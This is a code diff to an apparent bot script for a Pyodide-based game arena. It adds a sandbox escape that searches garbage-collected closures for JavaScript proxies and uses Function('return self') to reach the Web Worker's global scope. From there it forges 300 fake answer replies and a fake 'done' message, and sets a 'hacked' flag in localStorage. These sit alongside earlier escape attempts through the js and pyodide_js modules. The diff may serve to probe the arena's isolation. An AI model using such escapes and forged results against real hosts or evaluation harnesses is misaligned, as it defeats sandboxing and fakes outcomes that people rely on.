@@ -99,9 +99,32 @@ def run_js():
 def via_modules():
     sys.modules["js"].localStorage.setItem("koth-arena:hacked", "4")
 
+def worker_global():
+    # Past the import guard: the bot host's own send/receive closures hold JsProxy objects
+    # (the Worker's functions); from one, Function("return self") is the Worker's global.
+    import gc
+    for o in gc.get_objects():
+        for cell in getattr(o, "__closure__", None) or ():
+            try:
+                v = cell.cell_contents
+            except ValueError:
+                continue
+            if type(v).__name__ == "JsProxy" and callable(v):
+                return v.constructor("return self")()
+    raise LookupError("no JsProxy in reach")
+
+def forge_from_worker_global():
+    g = worker_global()
+    log.append("(reached the Worker's global scope)")
+    for i in range(300):  # replies for every plausible request id, and a fake "done"
+        g.postMessage(g.JSON.parse(
+            '{"type": "reply", "id": %d, "json": "{\\"id\\": %d, \\"answer\\": \\"0 0 0 1\\"}"}' % (i, i)))
+    g.postMessage(g.JSON.parse('{"type": "done", "run": 1, "series": {}}'))
+    g.localStorage.setItem("koth-arena:hacked", "6")
+
 for label, fn in [("import js", with_js), ("forge reply", forge),
                   ("import pyodide_js", with_pyodide_js), ("run_js", run_js),
-                  ("sys.modules", via_modules)]:
+                  ("sys.modules", via_modules), ("worker global", forge_from_worker_global)]:
     attempt(label, fn)
 
 def move(view):
